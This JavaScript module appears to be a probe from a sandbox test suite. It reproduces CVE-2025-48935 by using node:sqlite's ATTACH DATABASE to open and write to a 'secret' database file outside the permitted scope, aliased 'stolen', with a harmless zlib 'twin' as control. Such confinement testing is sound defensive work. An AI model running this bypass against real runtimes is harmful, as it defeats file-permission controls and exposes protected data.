// Route: Attaches a file outside to a database in memory.
// Known from: CVE-2025-48935 (Deno, node:sqlite)
// Refused: absent, ERR_SQLITE_ERROR
// Twin: a module of Node that computes
// Unconfined: cannot run: not every Node has the module
export const attempt = async ({ base }) => {
  const { DatabaseSync } = process.getBuiltinModule?.('node:sqlite') ?? {};
  if (DatabaseSync === undefined) return 'absent';
  new DatabaseSync(':memory:').exec(
    `ATTACH DATABASE '${base}/secret/database' AS stolen; CREATE TABLE stolen.t(a)`,
  );
};
export const twin = () => void process.getBuiltinModule?.('node:zlib').gzipSync('text');
